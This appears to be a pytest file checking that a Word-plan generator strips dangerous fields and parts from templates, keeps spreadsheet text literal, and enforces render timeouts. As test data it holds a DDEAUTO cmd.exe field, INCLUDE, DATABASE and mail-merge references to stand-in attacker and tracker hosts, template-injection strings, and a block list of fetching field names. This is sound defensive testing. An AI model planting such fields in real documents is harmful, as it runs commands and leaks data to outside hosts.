"""Where issue 9's template defences leaked (attacker's findings 1, 2, 3 and 5, template side).

Every output is checked by walking every part of the saved .docx, with
checks written independently of pipeline/render/cleaning.py.
"""

from __future__ import annotations

import os
import re
import time
import zipfile
from pathlib import Path
from unittest.mock import patch

import docx
import pytest
from lxml import etree

from pipeline.cli import cli
from pipeline.input_checks import damaged_zip_entry
from pipeline.render import isolation
from tests.bad_inputs.crafted_docx import (
    CT_COMMENTS,
    REL_NS,
    SHIPPED,
    W_NS,
    badly_named_entry,
    complex_field,
    crafted_template,
    damaged_entry,
    encrypted_entry,
    simple_field,
    with_notes,
    with_parts,
)
from tests.conftest import write_plan_workbook

W = f"{{{W_NS}}}"
#: Field names that fetch, read or run something: none may have an instruction in a plan.
FETCHING = re.compile(
    r"^\s*\\?(DDE|DDEAUTO|INCLUDEPICTURE|INCLUDETEXT|INCLUDE|LINK|IMPORT|RD|DATABASE|MACROBUTTON)\b",
    re.IGNORECASE,
)


@pytest.fixture
def folder(tmp_path, monkeypatch) -> Path:
    write_plan_workbook(tmp_path / "plan.xlsx")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _build(runner, template: Path, *extra: str, workbook: str = "plan.xlsx"):
    args = ["build", workbook, "-o", "out", "--template", str(template), *extra]
    result = runner.invoke(cli, args, catch_exceptions=False)
    assert "Traceback" not in result.output
    return result


def _instructions(root: etree._Element) -> list[str]:
    """Every field instruction in a part: simple fields, and complex ones joined across runs."""
    found = [e.get(f"{W}instr", "") for e in root.iter(f"{W}fldSimple")]
    current: list[list[str]] = []
    for element in root.iter(f"{W}fldChar", f"{W}instrText", f"{W}delInstrText"):
        if element.tag == f"{W}fldChar":
            kind = element.get(f"{W}fldCharType")
            if kind == "begin":
                current.append([])
            elif kind == "end" and current:
                found.append("".join(current.pop()))
        elif current:
            current[-1].append(element.text or "")
            for outer in current[:-1]:  # a nested field's text is part of the outer instruction
                outer.append(element.text or "")
    return found


def assert_nothing_fetches(plan: Path) -> None:
    """Walk every part of the plan: no outside link, chunk, mail merge or fetching field is left."""
    with zipfile.ZipFile(plan) as archive:
        names = archive.namelist()
        assert len(names) == len(set(names)), "duplicate parts"
        for name in names:
            data = archive.read(name)
            assert not name.lower().endswith((".htm", ".html", ".rtf", ".mht")), name
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(data)  # strictly well-formed
            for rel in root.iter(f"{{{REL_NS}}}Relationship"):
                assert not rel.get("Type", "").endswith("/aFChunk"), name
                if rel.get("TargetMode") == "External":
                    assert rel.get("Type", "").endswith("/hyperlink"), (name, rel.attrib)
                    assert rel.get("Target", "").startswith(("http://", "https://")), name
            assert next(root.iter(f"{W}altChunk", f"{W}mailMerge"), None) is None, name
            for instruction in _instructions(root):
                assert not FETCHING.match(instruction), (name, instruction)
                assert "INCLUDE" not in instruction.upper(), (name, instruction)


def _warnings(output: str) -> int:
    return output.count("TEMPLATE_EXTERNAL_LINK:")


# ----------------------------------------------- finding 1: every part, every fetching field


DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" '
PICTURE = ' INCLUDEPICTURE "http://tracker.example.com/fn.png" \\d '


@pytest.mark.parametrize("kind", ["footnote", "endnote"])
def test_fields_in_footnotes_and_endnotes_are_removed(folder, runner, kind):
    note = "<w:p>" + simple_field(PICTURE)[5:-6] + complex_field(DDE) + "</w:p>"
    result = _build(runner, with_notes(folder / "t.docx", kind, note))
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 2
    plan = folder / "out" / "plan.docx"
    assert_nothing_fetches(plan)
    with zipfile.ZipFile(plan) as archive:
        notes = archive.read(f"word/{kind}s.xml")
    assert b"DDEAUTO" not in notes and b"INCLUDEPICTURE" not in notes


def test_fields_in_comments_are_removed(folder, runner):
    comments = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="{W_NS}">'
        f'<w:comment w:id="0" w:author="x"><w:p>{complex_field(DDE)}</w:p></w:comment></w:comments>'
    ).encode()
    template = with_parts(
        folder / "t.docx",
        parts={"word/comments.xml": comments},
        content_types={"word/comments.xml": CT_COMMENTS},
        document_rels=[("rIdC1", "comments", "comments.xml")],
    )
    result = _build(runner, template)
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 1
    assert_nothing_fetches(folder / "out" / "plan.docx")


def test_field_built_by_a_nested_field_is_removed_whole(folder, runner):
    inner = complex_field(' QUOTE "INCLUDETEXT \\"C:\\\\Windows\\\\win.ini\\"" ', "q")
    outer = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + inner
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    result = _build(runner, with_parts(folder / "t.docx", outer))
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 1
    assert "INCLUDETEXT" in result.output  # the warning shows what was built
    plan = folder / "out" / "plan.docx"
    assert_nothing_fetches(plan)
    with zipfile.ZipFile(plan) as archive:
        assert b"INCLUDETEXT" not in archive.read("word/document.xml")
    assert docx.Document(str(plan)).paragraphs[0].text.endswith("built")


@pytest.mark.parametrize(
    "instruction",
    [
        ' DATABASE \\d "\\\\\\\\attacker\\\\share\\\\db.xlsx" \\s "SELECT * FROM [Sheet1$]" \\h ',
        ' RD "\\\\\\\\attacker\\\\share\\\\chapter.docx" ',
        ' INCLUDETEXT"\\\\\\\\attacker\\\\share\\\\x.docx" ',
        ' INCLUDEPICTURE\t"http://tracker.example/p.png" \\d ',
        " MACROBUTTON FileOpen Click here ",
        ' includetext "C:\\\\a.docx" ',
        ' SOMETHINGNEW "\\\\\\\\attacker\\\\x" ',
    ],
)
def test_every_fetching_field_is_removed(folder, runner, instruction):
    body = "<w:p>" + complex_field(instruction) + "</w:p>" + simple_field(instruction)
    result = _build(runner, with_parts(folder / "t.docx", body))
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 2
    plan = folder / "out" / "plan.docx"
    assert_nothing_fetches(plan)
    name = instruction.split()[0].split('"')[0]
    with zipfile.ZipFile(plan) as archive:
        assert name.encode() not in archive.read("word/document.xml")


def test_mail_merge_source_is_removed(folder, runner):
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
        '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
        'Data Source=\\\\attacker.example.com\\share\\data.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
    )
    result = _build(runner, with_parts(folder / "t.docx", settings_insert=merge))
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 1
    assert "a mail-merge source" in result.output
    plan = folder / "out" / "plan.docx"
    assert_nothing_fetches(plan)
    with zipfile.ZipFile(plan) as archive:
        settings = archive.read("word/settings.xml")
    assert b"connectString" not in settings and b"attacker" not in settings


def test_alt_chunks_are_removed_with_their_parts(folder, runner):
    html_chunk = b'<html><body><img src="http://tracker.example.com/p.png"></body></html>'
    rtf_chunk = rb'{\rtf1 {\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt y}}}'
    template = with_parts(
        folder / "t.docx",
        '<w:altChunk r:id="rIdAC1"/><w:altChunk r:id="rIdAC2"/><w:altChunk r:id="rIdAC3"/>',
        parts={
            "word/chunk1.htm": html_chunk,
            "word/chunk2.rtf": rtf_chunk,
            "word/chunk3.docx": SHIPPED.read_bytes(),
        },
        content_types={
            "word/chunk1.htm": "text/html",
            "word/chunk2.rtf": "application/rtf",
            "word/chunk3.docx": "application/vnd.openxmlformats-officedocument."
            "wordprocessingml.document",
        },
        document_rels=[
            ("rIdAC1", "aFChunk", "chunk1.htm"),
            ("rIdAC2", "aFChunk", "chunk2.rtf"),
            ("rIdAC3", "aFChunk", "chunk3.docx"),
        ],
    )
    result = _build(runner, template)
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 3
    assert "an embedded chunk" in result.output
    plan = folder / "out" / "plan.docx"
    assert_nothing_fetches(plan)
    with zipfile.ZipFile(plan) as archive:
        assert not [n for n in archive.namelist() if "chunk" in n]
        assert b"chunk" not in archive.read("[Content_Types].xml")
    docx.Document(str(plan))  # still opens


def test_what_cannot_be_removed_refuses_the_template(folder, runner):
    """If a second walk over the cleaned plan still finds a field, nothing is written."""
    template = with_parts(folder / "t.docx", "<w:p>" + complex_field(DDE) + "</w:p>")
    with patch("pipeline.render.cleaning.disarm", lambda fields: None):
        result = _build(runner, template)
    assert result.exit_code == 2, result.output
    assert "could not take out of the plan safely" in result.output
    assert not (folder / "out" / "plan.docx").exists()


def test_shipped_template_keeps_its_fields(folder, runner):
    result = _build(runner, SHIPPED)
    assert result.exit_code == 0, result.output
    assert _warnings(result.output) == 0
    with zipfile.ZipFile(folder / "out" / "plan.docx") as archive:
        assert b"TOC" in archive.read("word/document.xml")


# ------------------------------------------- finding 2: workbook text is data, rendered once


def _footnote_template(folder: Path, text: str) -> Path:
    note = f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
    return with_notes(folder / "fn.docx", "footnote", note)


def test_workbook_text_in_a_footnote_is_not_run(folder, runner):
    write_plan_workbook(
        folder / "inj.xlsx", plan={"council": "Evil {{ 7*7 }} {{ owners[0].name }}"}
    )
    template = _footnote_template(folder, "Council: {{ plan.council }}")
    result = _build(runner, template, workbook="inj.xlsx")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(folder / "out" / "inj.docx") as archive:
        notes = archive.read("word/footnotes.xml").decode("utf-8")
    assert "Council: Evil {{ 7*7 }} {{ owners[0].name }}" in notes
    assert "49" not in notes


def test_workbook_markup_in_a_footnote_stays_text(folder, runner):
    write_plan_workbook(
        folder / "inj.xlsx",
        plan={"council": "Evil {{ plan.title|safe }}", "title": "</w:t></w:r></w:p><w:p>"},
    )
    template = _footnote_template(folder, "Council: {{ plan.council }}")
    result = _build(runner, template, workbook="inj.xlsx")
    assert result.exit_code == 0, result.output
    plan = folder / "out" / "inj.docx"
    assert_nothing_fetches(plan)  # every part well-formed
    with zipfile.ZipFile(plan) as archive:
        notes = etree.fromstring(archive.read("word/footnotes.xml"))
    text = "".join(t.text or "" for t in notes.iter(f"{W}t"))
    assert "Council: Evil {{ plan.title|safe }}" in text


def test_template_breaking_a_footnote_is_a_clear_error(folder, runner):
    template = _footnote_template(folder, "{{ '&lt;w:p&gt;'|safe }}")
    result = _build(runner, template)
    assert result.exit_code == 2, result.output
    assert "produced invalid XML" in result.output
    assert not (folder / "out" / "plan.docx").exists()


def test_header_shared_by_two_sections_is_rendered_once(folder, runner):
    """Two relationships to one footer: rendered once, saved once, workbook text literal."""
    write_plan_workbook(folder / "inj.xlsx", plan={"council": "Evil {{ 7*7 }}"})
    with zipfile.ZipFile(SHIPPED) as source:
        rels = source.read("word/_rels/document.xml.rels").decode("utf-8")
        footer = source.read("word/footer1.xml").decode("utf-8")
        document = source.read("word/document.xml").decode("utf-8")
    target = re.search(r'Id="(rId\d+)"[^>]*Target="footer1.xml"', rels) or re.search(
        r'Target="footer1.xml"[^>]*Id="(rId\d+)"', rels
    )
    assert target
    rels = rels.replace("</Relationships>", _footer_rel("rIdF2") + "</Relationships>")
    footer = footer.replace(
        "</w:ftr>", "<w:p><w:r><w:t>{{ plan.council }}</w:t></w:r></w:p></w:ftr>"
    )
    section = (
        '<w:p><w:pPr><w:sectPr><w:footerReference w:type="default" r:id="rIdF2"/>'
        "</w:sectPr></w:pPr></w:p>"
    )
    document = document.replace("<w:body>", "<w:body>" + section, 1)
    template = crafted_template(
        folder / "two.docx",
        replace={
            "word/_rels/document.xml.rels": rels.encode(),
            "word/footer1.xml": footer.encode(),
            "word/document.xml": document.encode(),
        },
    )
    result = _build(runner, template, workbook="inj.xlsx")
    assert result.exit_code == 0, result.output
    plan = folder / "out" / "inj.docx"
    assert_nothing_fetches(plan)
    with zipfile.ZipFile(plan) as archive:
        footers = [n for n in archive.namelist() if "footer" in n and n.endswith(".xml")]
        texts = [archive.read(n).decode("utf-8") for n in footers]
    assert len(footers) == 1
    assert "Evil {{ 7*7 }}" in texts[0] and "Evil 49" not in texts[0]


def _footer_rel(rid: str) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footer"
    return f'<Relationship Id="{rid}" Type="{kind}" Target="footer1.xml"/>'


# --------------------------------------------------- finding 3: the time budget is absolute

CHAIN = ".".join(["real"] * 20)


@pytest.mark.parametrize(
    "payload",
    [
        "{{ (range(100000)|list * 100)|map(attribute='" + CHAIN + "')|list|length }}",
        "{{ (range(100000)|list * 100)|sum(attribute='" + CHAIN + "') }}",
        "{{ (range(100000)|list * 100)|groupby('real')|length }}",
    ],
)
@pytest.mark.skipif(not isolation.can_isolate(), reason="needs fork")
def test_work_inside_one_filter_stops_at_the_time_budget(folder, runner, payload):
    template = crafted_template(folder / "slow.docx", payload)
    started = time.monotonic()
    result = _build(runner, template, "--template-timeout", "1")
    assert time.monotonic() - started < 15
    assert result.exit_code == 2, result.output
    assert "took longer than 1 second" in result.output
    assert not (folder / "out" / "plan.docx").exists()


@pytest.mark.skipif(not isolation.can_isolate(), reason="needs fork")
def test_memory_cap_is_set_in_the_child_only(folder, runner):
    import resource

    before = resource.getrlimit(resource.RLIMIT_AS)
    result = _build(runner, SHIPPED)
    assert result.exit_code == 0, result.output
    assert resource.getrlimit(resource.RLIMIT_AS) == before


def test_without_fork_the_sandbox_still_stops_a_loop(folder, runner, monkeypatch):
    monkeypatch.setattr(isolation, "can_isolate", lambda: False)
    payload = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    result = _build(
        runner, crafted_template(folder / "loop.docx", payload), "--template-timeout", "0.5"
    )
    assert result.exit_code == 2, result.output
    assert "took longer than 0.5 seconds" in result.output


# --------------------------------------------- finding 5: damaged templates, long properties


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (
            lambda p: encrypted_entry(SHIPPED, p, "word/document.xml"),
            "word/document.xml' is encrypted",
        ),
        (lambda p: encrypted_entry(SHIPPED, p, "[Content_Types].xml"), "is encrypted"),
        (lambda p: damaged_entry(SHIPPED, p, "word/document.xml"), "word/document.xml is damaged"),
        (lambda p: damaged_entry(SHIPPED, p, "word/styles.xml"), "word/styles.xml is damaged"),
        (lambda p: badly_named_entry(SHIPPED, p, "docProps/app.xml"), "damaged"),
    ],
)
def test_damaged_zip_entries_in_a_template_are_exit_2(folder, runner, make, says):
    template = make(folder / "broken.docx")
    result = _build(runner, template)
    assert result.exit_code == 2, result.output
    assert "Error: Cannot open the Word template" in result.output
    assert "broken.docx" in result.output
    assert says in result.output


def test_damaged_zip_entry_names_the_entry(tmp_path):
    with zipfile.ZipFile(SHIPPED) as archive:
        assert damaged_zip_entry(archive, archive.infolist()) == ""
    broken = damaged_entry(SHIPPED, tmp_path / "d.docx", "word/styles.xml")
    with zipfile.ZipFile(broken) as archive:
        assert "word/styles.xml is damaged" in damaged_zip_entry(archive, archive.infolist())


@pytest.mark.parametrize("field", ["council", "title", "author"])
def test_long_plan_details_are_shortened_in_the_properties(folder, runner, field):
    write_plan_workbook(folder / "long.xlsx", plan={field: "C" * 300})
    result = runner.invoke(cli, ["build", "long.xlsx", "-o", "out"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "Word template" not in result.output
    properties = docx.Document(str(folder / "out" / "long.docx")).core_properties
    values = [properties.title, properties.author, properties.subject]
    assert all(len(value) <= 255 for value in values)
    assert any(value.startswith("C" * 200) for value in values)


def _sleep_then(seconds: float, rendered_first: bool):
    def work(rendered):
        if rendered_first:
            rendered()
        time.sleep(seconds)
        return "made"

    return work


@pytest.mark.skipif(not isolation.can_isolate(), reason="needs fork")
def test_child_is_killed_at_the_render_deadline():
    started = time.monotonic()
    with pytest.raises(isolation.RenderTimeout):
        isolation.run_isolated(_sleep_then(30, rendered_first=False), 0.5)
    assert time.monotonic() - started < 5


@pytest.mark.skipif(not isolation.can_isolate(), reason="needs fork")
def test_finishing_has_its_own_limit():
    assert isolation.run_isolated(_sleep_then(0.1, rendered_first=True), 0.5) == "made"
    with pytest.raises(isolation.FinishTimeout):
        isolation.run_isolated(_sleep_then(30, rendered_first=True), 5, finish=0.5)


@pytest.mark.skipif(not isolation.can_isolate(), reason="needs fork")
def test_child_errors_come_back_whole_and_a_dead_child_is_reported():
    from pipeline.errors import TemplateError

    def fails(rendered):
        raise TemplateError("broken", hint="fix it")

    with pytest.raises(TemplateError) as caught:
        isolation.run_isolated(fails, 5)
    assert caught.value.hint == "fix it"
    with pytest.raises(isolation.ChildDied):
        isolation.run_isolated(lambda rendered: os._exit(9), 5)


@pytest.mark.parametrize("holder", ["w:tbl", "w:tr"])
def test_actions_cleaning_takes_out_are_missing_from_the_count(folder, runner, holder):
    """The action table (or its action row) points at an outside picture: cleaning removes
    the table, or every action row, so the count (made after cleaning) finds them missing
    and nothing is written. The rows are taken out of a block that stays: what the
    finishing steps found in it must be looked for again (block_marks.py)."""
    with zipfile.ZipFile(SHIPPED) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    document = parts["word/document.xml"].decode()
    anchor = document.find("{{r a.anchor }}")
    start = max(m.start() for m in re.finditer(f"<{holder}[ >]", document[:anchor]))
    at = start + len(holder) + 1
    parts["word/document.xml"] = (document[:at] + ' r:id="rIdOutside"' + document[at:]).encode()
    outside = (
        '<Relationship Id="rIdOutside" Target="http://tracker.example/p.png" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    )
    relationships = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = relationships.replace(
        "</Relationships>", outside + "</Relationships>"
    ).encode()
    template = folder / "doomed.docx"
    with zipfile.ZipFile(template, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    result = _build(runner, template)
    assert result.exit_code == 3, result.output
    assert "does not list every action exactly once" in result.output
    assert not (folder / "out").exists() or not list((folder / "out").glob("*.docx"))
